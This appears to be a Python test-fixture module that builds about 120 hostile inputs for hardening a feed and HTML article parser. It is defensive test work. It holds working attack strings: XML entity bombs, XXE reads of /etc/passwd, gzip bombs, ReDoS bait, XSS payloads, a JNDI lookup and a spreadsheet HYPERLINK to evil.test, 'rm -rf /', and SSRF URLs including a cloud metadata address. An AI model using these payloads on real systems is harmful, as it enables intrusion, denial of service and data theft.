"""Hostile inputs for feeds and pages, of our own making: 120 ways in which bytes go wrong, and what we require of each.

`expect`  ok: parsed, with entries or text as `want` says; degrade: no crash, within the limits, a flag is fine;
          reject: refused with a reason, within the limits.
Inputs are built when asked for (some are 17 MB); `build(name)` gives the bytes. @CANARY@ becomes an address that must
never be asked for.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    kind: str
    expect: str
    note: str
    want: dict[str, Any] = field(default_factory=dict)
    big: bool = False
    make: Callable[[], str | bytes]


CASES: dict[str, Case] = {}


def case(kind: str, expect: str, note: str, want: dict[str, Any] | None = None, big: bool = False) -> Any:
    def kept(make: Callable[[], str | bytes]) -> Callable[[], str | bytes]:
        CASES[make.__name__] = Case(kind=kind, expect=expect, note=note, want=want or {}, big=big, make=make)
        return make

    return kept


HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'


def rss(items, head=HEAD, doctype="", title="Testfeed", ns=""):
    return (
        head + doctype + f'<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/" {ns}><channel><title>{title}</title>'
        f"<link>https://example.test/</link><description>d</description>\n" + items + "</channel></rss>\n"
    )


def item(n=1, title=None, link=None, guid=None, date="Mon, 10 Jan 2022 15:30:00 +0100", extra="", desc="Kurztext"):
    t = f"Meldung {n}" if title is None else title
    l = f"<link>https://example.test/a/{n}</link>" if link is None else (f"<link>{link}</link>" if link else "")
    g = (
        f'<guid isPermaLink="false">id-{n}</guid>'
        if guid is None
        else (f'<guid isPermaLink="false">{guid}</guid>' if guid else "")
    )
    d = f"<pubDate>{date}</pubDate>" if date else ""
    return f"<item><title>{t}</title>{l}{g}{d}<description>{desc}</description>{extra}</item>\n"


ART = (
    "Die diplomatischen Gespräche in Genf wurden am Montag fortgesetzt, wie ein Sprecher des Ministeriums mitteilte. "
    "Beide Seiten bekräftigten ihre Positionen und vereinbarten ein weiteres Treffen für die kommende Woche in Wien. "
)


def html(body, head='<meta charset="utf-8"><title>Titel der Seite</title>'):
    return f'<!DOCTYPE html><html lang="de"><head>{head}</head><body>{body}</body></html>'


_S = [
    "In Genf trafen sich am Montag Vertreter beider Regierungen zu vertraulichen Beratungen über die Lage an der Grenze.",
    "Die Vizeaußenministerin erklärte anschließend, man habe deutlich gemacht, welche Punkte nicht verhandelbar seien.",
    "Ihr Amtskollege sprach von komplizierten, aber professionellen Gesprächen und nannte drei offene Fragen.",
    "Für Mittwoch ist nach Angaben des Bündnisses ein weiteres Treffen in Brüssel geplant, am Donnerstag folgt Wien.",
    "Der Generalsekretär dämpfte die Erwartungen: Es sei unrealistisch, dass alle Probleme bis Ende der Woche gelöst würden.",
    "Beobachter werten die Zusammenkunft als Versuch, einen neuen bewaffneten Konflikt auf dem Kontinent zu verhindern.",
    "Ein Sprecher des Ministeriums bestätigte, dass Fachleute parallel über Abrüstung und Manöver beraten sollen.",
    "Ob daraus ein schriftliches Ergebnis entsteht, ließen beide Seiten am Abend ausdrücklich offen.",
]


def article(n=8):
    return (
        "<article><h1>Gespräche in Genf</h1>"
        + "".join(f"<p>{_S[i % len(_S)]} {_S[(i * 3 + 1) % len(_S)]}</p>" for i in range(n))
        + "</article>"
    )


# ---------------------------------------------------------------- XML entity attacks
@case("feed", "reject", "billion laughs, 10 levels x10 = 3 GB")
def f_billion_laughs():
    d = (
        '<!DOCTYPE rss [\n<!ENTITY l0 "lol">\n'
        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">\n' for i in range(1, 11))
        + "]>\n"
    )
    return rss(item(1, title="&l10;"), doctype=d)


@case("feed", "reject", "billion laughs all on one line (defeats line-anchored regexes)")
def f_billion_laughs_oneline():
    d = (
        '<!DOCTYPE rss [<!ENTITY l0 "lol">'
        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 11))
        + "]>"
    )
    return rss(item(1, title="&l10;"), doctype=d)


@case("feed", "reject", "billion laughs in an attribute")
def f_billion_laughs_attr():
    d = (
        '<!DOCTYPE rss [\n<!ENTITY l0 "lol">\n'
        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">\n' for i in range(1, 11))
        + "]>\n"
    )
    return rss('<item><title>x</title><enclosure url="&l10;" length="1" type="a/b"/></item>', doctype=d)


@case("feed", "reject", "parameter-entity laughs")
def f_param_entity_laughs():
    d = (
        "<!DOCTYPE rss [\n<!ENTITY % p0 \"<!ENTITY z 'lol'>\">\n"
        + "".join(f'<!ENTITY % p{i} "{f"&#37;p{i - 1};" * 10}">\n' for i in range(1, 10))
        + "%p9;\n]>\n"
    )
    return rss(item(1, title="&z;"), doctype=d)


@case("feed", "reject", "quadratic blowup: one 50 kB entity, 20,000 references = 1 GB")
def f_quadratic_blowup():
    return rss(item(1, title="&a;" * 20000), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')


@case("feed", "degrade", "quadratic blowup kept under expat's 8 MiB activation threshold (7 MB)")
def f_quadratic_below_threshold():
    return rss(item(1, title="&a;" * 140), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')


@case("feed", "reject", "external general entity file:///etc/passwd", want={"must_not_contain": "root:"})
def f_xxe_file():
    return rss(item(1, title="X&x;Y"), doctype='<!DOCTYPE rss [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n')


@case(
    "feed",
    "ok",
    "external DTD over HTTP (@CANARY@ is replaced by a canary URL): parse, never fetch it",
    want={"entries": 1, "no_canary_hit": True},
)
def f_xxe_http_dtd():
    return rss(item(1), doctype='<!DOCTYPE rss SYSTEM "@CANARY@/evil.dtd">\n')


@case("feed", "reject", "external parameter entity", want={"no_canary_hit": True})
def f_xxe_param():
    return rss(item(1), doctype='<!DOCTYPE rss [\n<!ENTITY % p SYSTEM "@CANARY@/evil.dtd">\n%p;\n]>\n')


@case("feed", "degrade", "XInclude of a local file", want={"must_not_contain": "root:"})
def f_xinclude():
    return rss(
        item(1, title='<xi:include href="file:///etc/passwd" parse="text"/>'),
        ns='xmlns:xi="http://www.w3.org/2001/XInclude"',
    )


@case(
    "feed",
    "ok",
    "legitimate old Netscape RSS 0.91 DOCTYPE must still parse",
    want={"entries": 1, "no_canary_hit": True},
)
def f_doctype_rss091():
    return rss(
        item(1),
        doctype='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n',
    )


@case("feed", "degrade", "DOCTYPE pointing to a local device file")
def f_doctype_dev():
    return rss(item(1), doctype='<!DOCTYPE rss SYSTEM "file:///dev/zero">\n')


# ---------------------------------------------------------------- encodings
@case("feed", "ok", "declared utf-8, bytes are latin-1", want={"entries": 1})
def f_enc_declared_utf8_is_latin1():
    return rss(item(1, title="Außenminister Müller")).encode("latin-1")


@case("feed", "ok", "declared iso-8859-1, bytes are utf-8 (mojibake trap)", want={"entries": 1})
def f_enc_declared_latin1_is_utf8():
    return rss(item(1, title="Außenminister Müller"), head='<?xml version="1.0" encoding="iso-8859-1"?>\n').encode()


@case("feed", "ok", "windows-1252 with „quotes“ and –", want={"entries": 1, "title": "„Gespräche“ – heute"})
def f_enc_cp1252():
    return rss(item(1, title="„Gespräche“ – heute"), head='<?xml version="1.0" encoding="windows-1252"?>\n').encode(
        "cp1252"
    )


@case("feed", "ok", "UTF-16 LE without BOM", want={"entries": 1})
def f_enc_utf16le_nobom():
    return rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-16"?>\n').encode("utf-16-le")


@case("feed", "ok", "UTF-16 with BOM but declared utf-8", want={"entries": 1})
def f_enc_utf16_bom_declared_utf8():
    return rss(item(1, title="Müller")).encode("utf-16")


@case("feed", "ok", "UTF-32 with BOM", want={"entries": 1})
def f_enc_utf32():
    return rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-32"?>\n').encode("utf-32")


@case("feed", "degrade", "declared utf-7 (filter-evasion)")
def f_enc_utf7():
    return rss(
        item(1, title="+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), head='<?xml version="1.0" encoding="utf-7"?>\n'
    )


@case("feed", "degrade", "declared encoding does not exist")
def f_enc_unknown():
    return rss(item(1), head='<?xml version="1.0" encoding="x-klingon"?>\n')


@case("feed", "degrade", "declared encoding is a Python byte codec (zip/rot13/idna)")
def f_enc_python_codec():
    return rss(item(1), head='<?xml version="1.0" encoding="zip"?>\n')


@case("feed", "ok", "BOM + leading blank lines before XML declaration", want={"entries": 1})
def f_leading_blank():
    return b"\xef\xbb\xbf\r\n\r\n" + rss(item(1)).encode()


@case("feed", "ok", "PHP warning text before XML declaration", want={"entries": 1})
def f_leading_php_warning():
    return "<br />\n<b>Warning</b>: mysql_connect() in /var/www/x.php on line 3<br />\n" + rss(item(1))


@case("feed", "ok", "mixed CR, LF, CRLF", want={"entries": 2})
def f_mixed_crlf():
    return rss(item(1) + item(2)).replace("\n", "\r\n", 2).replace("<item>", "\r<item>\n")


@case("feed", "degrade", "NUL bytes in title and guid")
def f_nul_bytes():
    return rss(item(1, title="A\x00B", guid="id\x001") + item(2))


@case("feed", "degrade", "C0 control characters")
def f_control_chars():
    return rss(item(1, title="A\x01\x02\x0b\x1fB") + item(2))


@case(
    "feed",
    "ok",
    "numeric references to NUL, surrogates, U+FFFE, > U+10FFFF in one item must not cost the feed",
    want={"entries": 2},
)
def f_bad_charrefs():
    return rss(item(1, title="&#0;&#xD800;&#xFFFE;&#x110000;&#99999999999;") + item(2))


@case("feed", "ok", "bidi overrides, zero-width, homoglyph NАТО (Cyrillic А)", want={"entries": 1})
def f_bidi():
    return rss(item(1, title="\u202eOTAN\u202c N\u0410\u0422\u041e Ge\u00adspr\u00e4che\u200b\ufeff"))


@case("feed", "ok", "NFD instead of NFC umlauts", want={"entries": 1})
def f_nfd():
    import unicodedata

    return unicodedata.normalize("NFD", rss(item(1, title="Außenminister Müller in Köln")))


# ---------------------------------------------------------------- size / depth
@case("feed", "reject", "1,000,000 nested elements", big=True)
def f_nested_1m():
    return rss("<item>" + "<a>" * 1_000_000 + "</a>" * 1_000_000 + "</item>")


@case("feed", "reject", "1,000,000 nested, never closed, tag soup", big=True)
def f_nested_unclosed_1m():
    return HEAD + "<rss><channel><item><description>" + "<div>" * 1_000_000


@case("feed", "degrade", "100,000 nested divs inside escaped description (sanitiser path)", big=True)
def f_nested_in_content():
    return rss(item(1, desc="&lt;div&gt;" * 100_000 + "x"))


@case("feed", "degrade", "10 MB title on one line", big=True)
def f_title_10mb():
    return rss(item(1, title="A" * 10_000_000) + item(2))


@case("feed", "degrade", "10 MB attribute", big=True)
def f_attr_10mb():
    return rss(
        f'<item><title>x</title><enclosure url="https://e.test/{"a" * 10_000_000}" length="1" type="a/b"/></item>'
    )


@case("feed", "degrade", "200,000 attributes on one element", big=True)
def f_attrs_200k():
    return rss("<item " + " ".join(f'a{i}="1"' for i in range(200_000)) + "><title>x</title></item>")


@case("feed", "degrade", "100,000 entries, 17 MB", big=True)
def f_entries_100k():
    return rss("".join(item(i) for i in range(100_000)))


@case("feed", "degrade", "20,000 entries each with small HTML content", big=True)
def f_entries_20k_html():
    return rss(
        "".join(
            item(i, extra='<content:encoded><![CDATA[<p>Hallo <b>Welt</b> <a href="/x">y</a></p>]]></content:encoded>')
            for i in range(20_000)
        )
    )


@case("feed", "degrade", "1 MB guid", big=True)
def f_guid_1mb():
    return rss(item(1, guid="g" * 1_000_000) + item(2))


@case("feed", "degrade", "100,000 namespaces", big=True)
def f_ns_100k():
    return rss("<item " + " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(100_000)) + "><title>x</title></item>")


@case("feed", "reject", "2 MB of newlines, no tag (regex ^\\s* quadratic)", big=True)
def f_redos_newlines():
    return HEAD + "\n" * 2_000_000


@case("feed", "degrade", "200 kB of blank lines before <rss> (regex ^\\s* quadratic, small file)")
def f_redos_newlines_200k():
    return HEAD + "\n" * 200_000 + rss(item(1), head="")


@case("feed", "degrade", '300 kB of "<!" (tag-soup regexes)')
def f_redos_bang():
    return HEAD + "<rss><channel><item><title>" + "<!" * 150_000


@case("feed", "degrade", '300 kB of "<" ')
def f_redos_lt():
    return HEAD + "<rss><channel><item><title>" + "<" * 300_000


@case("feed", "degrade", '200,000 "&" without semicolon')
def f_redos_amp():
    return HEAD + "<rss><channel><item><title>" + "&" * 200_000


@case("feed", "degrade", "style attribute, 100 kB, CSS sanitiser regexes")
def f_redos_css():
    return rss(item(1, desc='&lt;p style="' + "a:" * 50_000 + '"&gt;x&lt;/p&gt;'))


@case("feed", "degrade", "date string of 100,000 digits/spaces (date regexes)")
def f_redos_date():
    return rss(item(1, date="1" * 50_000 + " " * 50_000 + "x") + item(2, date="Mon, " + "0" * 100_000))


@case("feed", "degrade", "author regex bait, 100 kB (feedparser issue 562, still quadratic in 6.0.14)")
def f_redos_author():
    return rss(item(1, extra="<author>x@" + "a." * 50_000 + "!</author>") + item(2))


# ---------------------------------------------------------------- structure
@case("feed", "reject", "empty body")
def f_empty():
    return ""


@case("feed", "reject", "whitespace only")
def f_whitespace():
    return " \n\t " * 100


@case("feed", "degrade", "truncated in the middle of item 3 of 5", want={"min_entries": 2})
def f_truncated():
    s = rss("".join(item(i) for i in range(1, 6)))
    return s[: s.index("Meldung 3") + 4]


@case("feed", "degrade", "truncated inside a multi-byte character", want={"min_entries": 2})
def f_truncated_multibyte():
    s = rss("".join(item(i, title=f"Gespräche {i}") for i in range(1, 5))).encode()
    return s[: s.index("Gespräche 3".encode()) + 6]


@case("feed", "degrade", "unclosed CDATA")
def f_unclosed_cdata():
    return rss(item(1) + "<item><title><![CDATA[Offen</title></item>")


@case("feed", "degrade", "unclosed comment")
def f_unclosed_comment():
    return rss(item(1) + "<!-- offen " + item(2))


@case("feed", "degrade", "two concatenated documents")
def f_two_roots():
    return rss(item(1)) + rss(item(2))


@case("feed", "ok", "unescaped & in title and link", want={"entries": 2})
def f_raw_ampersand():
    return rss(item(1, title="Krieg & Frieden", link="https://example.test/a?x=1&y=2") + item(2))


@case("feed", "ok", "undeclared HTML entity &nbsp; &uuml;", want={"entries": 1})
def f_html_entities():
    return rss(item(1, title="M&uuml;ller&nbsp;&ndash;&nbsp;heute"))


@case("feed", "ok", "undeclared namespace prefix", want={"entries": 1})
def f_undeclared_ns():
    return rss(item(1, extra='<media:content url="https://e.test/x.jpg"/>'))


@case("feed", "reject", "HTTP 200 HTML error page instead of feed")
def f_html_error_page():
    return html("<h1>503 Service Unavailable</h1><p>Wartungsarbeiten</p>")


@case("feed", "reject", "HTTP 200 consent wall instead of feed")
def f_html_consent():
    return html(
        '<div id="sp_message_container"><h2>Wir und unsere Partner brauchen Ihre Zustimmung</h2><button>Alle akzeptieren</button></div><script src="https://cmp.example.test/x.js"></script>'
    )


@case("feed", "reject", "login page with redirects in meta refresh")
def f_html_login():
    return html(
        "<form action=/login><input name=u><input name=p type=password></form>",
        head='<meta http-equiv=refresh content="0;url=/login">',
    )


@case("feed", "reject", "bot challenge page")
def f_html_challenge():
    return html(
        "<noscript>Enable JavaScript and cookies to continue</noscript>", head="<title>Just a moment...</title>"
    )


@case("feed", "degrade", "JSON Feed 1.1")
def f_json_feed():
    return json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "T",
            "items": [
                {
                    "id": "1",
                    "url": "https://example.test/a/1",
                    "title": "Meldung",
                    "content_text": "x",
                    "date_published": "2022-01-10T15:30:00+01:00",
                }
            ],
        }
    )


@case("feed", "reject", "JSON nested 100,000 deep")
def f_json_deep():
    return "[" * 100_000


@case("feed", "reject", "PNG bytes with feed content type")
def f_png():
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50


@case("feed", "reject", "PDF")
def f_pdf():
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0" * 2000


@case(
    "feed", "reject", "body is a local path: feedparser.parse(bytes) would open it", want={"must_not_contain": "root:"}
)
def f_body_is_path():
    return b"/etc/passwd"


@case("feed", "reject", "body is a URL: feedparser.parse(str) would fetch it", want={"no_canary_hit": True})
def f_body_is_url():
    return "@CANARY@/ssrf-by-body"


@case("feed", "reject", "gzip bomb 1000:1 as body without header (100 MB)")
def f_body_is_gzip_bomb():
    return gzip.compress(b"<rss>" + b" " * 100_000_000, 9, mtime=0)


@case("feed", "ok", "gzip body without Content-Encoding header", want={"entries": 1})
def f_body_gzip_noheader():
    return gzip.compress(rss(item(1)).encode(), mtime=0)


# ---------------------------------------------------------------- identity, dates
@case("feed", "ok", "missing guid (link is identity)", want={"entries": 2})
def f_no_guid():
    return rss(item(1, guid="") + item(2, guid=""))


@case("feed", "ok", "missing link, guid only", want={"entries": 2})
def f_no_link():
    return rss(item(1, link="") + item(2, link=""))


@case("feed", "ok", "neither guid nor link", want={"entries": 2})
def f_no_guid_no_link():
    return rss(item(1, guid="", link="") + item(2, guid="", link=""))


@case("feed", "ok", "empty guid element", want={"entries": 2})
def f_empty_guid():
    return rss(item(1, guid=" ") + item(2, guid=" "))


@case("feed", "ok", "same guid, different links (two different articles)", want={"entries": 2, "distinct_articles": 2})
def f_dup_guid():
    return rss(item(1, guid="same") + item(2, guid="same"))


@case("feed", "ok", "same item twice in one document", want={"entries": 2, "distinct_articles": 1})
def f_dup_item():
    return rss(item(1) + item(1))


@case(
    "feed",
    "ok",
    "same article under http/https, utm_*, trailing slash, fragment, AMP",
    want={"entries": 6, "distinct_articles": 1},
)
def f_link_variants():
    ls = [
        "https://example.test/a/1",
        "http://example.test/a/1",
        "https://example.test/a/1/",
        "https://example.test/a/1?utm_source=rss",
        "https://example.test/a/1#c",
        "https://EXAMPLE.test:443/a/1",
    ]
    return rss("".join(item(1, link=l.replace("&", "&amp;"), guid=f"g{i}") for i, l in enumerate(ls)))


@case(
    "feed",
    "ok",
    "invalid dates: Feb 30, year 1, year 9999, year 0, epoch 0, words, German, tz +9999, leap second, missing",
    want={"entries": 16},
)
def f_bad_dates():
    ds = [
        "Wed, 30 Feb 2022 10:00:00 GMT",
        "0001-01-01T00:00:00Z",
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "9999-12-31T23:59:59-12:00",
        "0000-00-00T00:00:00Z",
        "Thu, 01 Jan 1970 00:00:00 GMT",
        "gestern",
        "Mo, 10 Jan 2022 15:30:00 MEZ",
        "10.01.2022 15:30 Uhr",
        "Mon, 10 Jan 2022 15:30:00 +9999",
        "2016-12-31T23:59:60Z",
        "Mon, 10 Jan 22 15:30 GMT",
        "1641825000",
        "２０２２-01-10",
        "Mon, 10 Jan 2022 25:61:61 GMT",
        "",
    ]
    return rss("".join(item(i, date=d) for i, d in enumerate(ds)))


@case("feed", "ok", "dates in the future (+1 h, 2099)", want={"entries": 2})
def f_future_dates():
    return rss(item(1, date="Thu, 01 Jan 2099 00:00:00 GMT") + item(2, date="Fri, 01 Jan 2038 03:14:08 GMT"))


@case(
    "feed",
    "ok",
    "DST: 02:30 on 2022-03-27 (does not exist) and 2022-10-30 (twice), CET/CEST/MESZ names",
    want={"entries": 5},
)
def f_dst_dates():
    return rss(
        "".join(
            item(i, date=d)
            for i, d in enumerate(
                [
                    "Sun, 27 Mar 2022 02:30:00 CET",
                    "Sun, 30 Oct 2022 02:30:00 CEST",
                    "Sun, 30 Oct 2022 02:30:00 CET",
                    "Sun, 30 Oct 2022 02:30:00 MESZ",
                    "2022-10-30T02:30:00 Europe/Berlin",
                ]
            )
        )
    )


# ---------------------------------------------------------------- injection
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<style>@import "//evil.test"</style>',
    '<p style="background:url(javascript:alert(1))">',
    "<form action=//evil.test><button formaction=javascript:alert(1)>",
    '<base href="//evil.test/">',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="http://tracker.test/p.gif">',
    '"><script>alert(1)</script>',
]


@case(
    "feed",
    "ok",
    "stored-XSS payloads in title, description, content, author, category, link",
    want={"entries": len(XSS), "no_active_html": True},
)
def f_xss():
    from xml.sax.saxutils import escape as e

    return rss(
        "".join(
            item(
                i,
                title=e(x),
                desc=e(x),
                extra=f"<content:encoded><![CDATA[{x}]]></content:encoded><dc:creator>{e(x)}</dc:creator><category>{e(x)}</category>",
            )
            for i, x in enumerate(XSS)
        )
    )


@case(
    "feed",
    "ok",
    "markdown / Slack / Discord / Jinja / CSV / log / e-mail injection in titles",
    want={"entries": 13, "no_active_markup": True},
)
def f_text_injection():
    from xml.sax.saxutils import escape as e

    ts = [
        "[klick](javascript:alert(1))",
        "![x](http://tracker.test/p.gif)",
        "<!channel> Eilmeldung",
        "@everyone Eilmeldung",
        "{{7*7}} {% raw %}",
        "${jndi:ldap://evil.test/a}",
        '=HYPERLINK("http://evil.test","x")',
        "Titel&#13;&#10;Bcc: opfer@evil.test",
        "Titel\x1b[2J\x1b[31mrot".replace("\x1b", "&#x241b;"),
        "`rm -rf /`",
        "| a | b |\n|---|---|",
        "</script><script>alert(1)</script>",
        "<https://evil.test|tagesschau.de>",
    ]
    return rss("".join(item(i, title=(e(t) if "&#" not in t else t)) for i, t in enumerate(ts)))


URLS = [
    "file:///etc/passwd",
    "javascript:alert(1)",
    "data:text/html,x",
    "gopher://127.0.0.1:6379/_x",
    "ftp://127.0.0.1/x",
    "http://127.0.0.1:1/",
    "http://localhost:1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]:1/",
    "http://[::ffff:127.0.0.1]:1/",
    "http://[::127.0.0.1]:1/",
    "http://2130706433:1/",
    "http://0x7f000001:1/",
    "http://0177.0.0.1:1/",
    "http://127.1:1/",
    "http://0.0.0.0:1/",
    "http://100.64.0.1/",
    "http://192.168.1.1/",
    "http://[fe80::1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://[2002:7f00:1::]/",
    "http://127.0.0.1:1\\@example.test/",
    "http://example.test@127.0.0.1:1/",
    "http://user:geheim@example.test/",
    "http://example.test/\r\nX-Injected: 1",
    "http://example.test:99999/",
    "http:///x",
    "//127.0.0.1:1/x",
    "../../../../etc/passwd",
    "http://ⓛocalhost:1/",
    "http://127。0。0。1:1/",
    "http://example.test/" + "a" * 5000,
]


@case(
    "feed",
    "ok",
    "SSRF / scheme / credential / header-splitting URLs as item links",
    want={"entries": len(URLS), "no_fetch_of_non_public": True},
)
def f_evil_links():
    from xml.sax.saxutils import escape as e

    return rss("".join(item(i, link=e(u), guid=f"g{i}") for i, u in enumerate(URLS)))


@case("feed", "ok", "path traversal in guid/title (if ever used as a file name)", want={"entries": 4})
def f_path_traversal():
    return rss(
        item(1, guid="../../../../etc/cron.d/x")
        + item(2, guid="..\\..\\x")
        + item(3, guid="/etc/passwd")
        + item(4, guid="a" * 300 + "/CON")
    )


# ---------------------------------------------------------------- HTML articles
@case("html", "ok", "plain good article", want={"min_chars": 800})
def h_good():
    return html(article())


@case("html", "reject", "1,000,000 nested <div>", big=True)
def h_nested_div_1m():
    return html("<div>" * 1_000_000 + ART + "</div>" * 1_000_000)


@case("html", "degrade", "10,000 nested <div> around a good article")
def h_nested_div_10k():
    return html("<div>" * 10_000 + article() + "</div>" * 10_000)


@case("html", "degrade", "200 nested <div> around a good article", want={"min_chars": 800})
def h_nested_div_200():
    return html("<div>" * 200 + article() + "</div>" * 200)


@case("html", "degrade", "1,000,000 nested <b>, unclosed", big=True)
def h_nested_b_1m():
    return html(article() + "<b>" * 1_000_000)


@case("html", "degrade", "10 MB single text line in one <p>", big=True)
def h_line_10mb():
    return html("<article><p>" + ART * 47_000 + "</p></article>")


@case("html", "degrade", "10 MB single word", big=True)
def h_word_10mb():
    return html("<article><p>" + "a" * 10_000_000 + "</p></article>")


@case("html", "degrade", "200,000 short paragraphs, 9 MB", big=True)
def h_paras_200k():
    return html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 200_000 + "</article>")


@case("html", "degrade", "20,000 paragraphs, 0.9 MB")
def h_paras_20k():
    return html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 20_000 + "</article>")


@case("html", "degrade", "100,000 table rows", big=True)
def h_table_100k():
    return html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 100_000 + "</table></article>")


@case("html", "degrade", "10,000 table rows")
def h_table_10k():
    return html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 10_000 + "</table></article>")


@case("html", "degrade", "100,000 links", big=True)
def h_links_100k():
    return html(article() + "".join(f'<a href="/x{i}">Link {i}</a>' for i in range(100_000)))


@case("html", "degrade", "20,000 nested lists")
def h_nested_lists():
    return html(article() + "<ul><li>" * 20_000)


@case("html", "degrade", "100,000 <br>")
def h_br_100k():
    return html(article() + "<p>" + "<br>" * 100_000 + "</p>")


@case("html", "degrade", '1,000,000 "<"', big=True)
def h_lt_1m():
    return html("<article><p>" + "<" * 1_000_000)


@case("html", "degrade", '500,000 "<!--" unclosed', big=True)
def h_comments():
    return html(article() + "<!--" * 500_000)


@case("html", "degrade", "100,000 attributes", big=True)
def h_attrs():
    return html("<article " + " ".join(f"a{i}=1" for i in range(100_000)) + "><p>" + ART * 5 + "</p></article>")


@case("html", "degrade", "JSON-LD nested 100,000 deep (json RecursionError)")
def h_jsonld_deep():
    return html(
        article(),
        head='<meta charset=utf-8><title>T</title><script type="application/ld+json">'
        + '{"a":' * 100_000
        + "1"
        + "}" * 100_000
        + "</script>",
    )


@case("html", "degrade", "JSON-LD with regex-unfriendly 500 kB")
def h_jsonld_redos():
    return html(
        article(),
        head='<meta charset=utf-8><title>T</title><script type="application/ld+json">{"@type":"NewsArticle","author":'
        + '{"@type":"Person","name":' * 20_000
        + "</script>",
    )


@case("html", "degrade", "date-regex bait: 300 kB of digits and dots")
def h_date_redos():
    return html(article() + "<p>" + "10.01." * 50_000 + "</p><time>" + "2022-" * 20_000 + "</time>")


@case("html", "degrade", "meta tags with 1 MB values")
def h_meta_huge():
    return html(
        article(),
        head='<meta charset=utf-8><meta property="og:title" content="'
        + "T" * 500_000
        + '"><meta name=author content="'
        + "von " * 100_000
        + '">',
    )


@case("html", "degrade", "NUL and control bytes in text", want={"min_chars": 700})
def h_nul():
    return html(article().replace("Genf", "Ge\x00nf\x01"))


@case("html", "ok", "header says utf-8, bytes latin-1, meta says utf-8", want={"min_chars": 800, "text": "Gespräche"})
def h_enc_latin1():
    return html(article()).encode("latin-1")


@case("html", "ok", "meta iso-8859-1, bytes utf-8", want={"min_chars": 800, "text": "Gespräche"})
def h_enc_conflict():
    return html(article(), head='<meta charset="iso-8859-1"><title>T</title>').encode()


@case("html", "ok", "UTF-16 LE without BOM", want={"min_chars": 800, "text": "Gespräche"})
def h_utf16_nobom():
    return html(article()).encode("utf-16-le")


@case("html", "degrade", "article truncated half-way through the body (must be flagged as truncated)")
def h_truncated():
    s = html(article(10))
    return s[: len(s) // 2]


@case("html", "reject", "consent wall, HTTP 200")
def h_consent():
    return f_html_consent()


@case("html", "degrade", "paywall teaser: 1 paragraph then offer text")
def h_paywall():
    return html(
        f'<article><h1>Titel</h1><p>{ART}</p><div class="paywall"><h2>Jetzt weiterlesen mit Plus</h2><p>Testen Sie 4 Wochen für 1 Euro.</p></div></article>'
    )


@case("html", "reject", "soft 404, HTTP 200")
def h_soft404():
    return html(
        "<h1>Seite nicht gefunden</h1><p>Die gewünschte Seite existiert nicht mehr. Bitte nutzen Sie die Suche.</p>"
    )


@case("html", "degrade", "template change: body rendered by JavaScript, empty HTML")
def h_js_only():
    return html('<div id="root"></div><script>window.__DATA__={"body":"' + ART * 4 + '"}</script>')


@case("html", "ok", "XSS payloads in article text", want={"no_active_html": True})
def h_xss():
    return html("<article>" + "".join(f"<p>{_S[i % 8]} Absatz {i}. {x}</p>" for i, x in enumerate(XSS)) + "</article>")


@case(
    "html",
    "ok",
    "robots noai/noindex + tdm-reservation meta: policy must be seen",
    want={"policy": "tdm-reservation=1"},
)
def h_tdm_optout():
    return html(
        article(),
        head='<meta charset=utf-8><title>T</title><meta name="tdm-reservation" content="1"><meta name="tdm-policy" content="https://example.test/tdm.json"><meta name="robots" content="noindex, noai">',
    )


@case("html", "reject", "bytes are a gzip bomb (100 MB) although no header said so")
def h_gzip_bomb_bytes():
    return gzip.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9, mtime=0)


@case("html", "reject", "bytes are a zlib bomb (100 MB)")
def h_zlib_bomb_bytes():
    return zlib.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9)


@case("html", "reject", "empty")
def h_empty():
    return ""


@case("html", "reject", "XML with billion laughs where HTML is expected")
def h_billion_laughs():
    return f_billion_laughs()


@case("html", "reject", "PDF bytes")
def h_pdf():
    return f_pdf()


def build(name: str, canary: str = "http://127.0.0.1:9") -> bytes:
    made = CASES[name].make()
    body = made.encode("utf-8", "surrogatepass") if isinstance(made, str) else made
    return body.replace(b"@CANARY@", canary.encode())
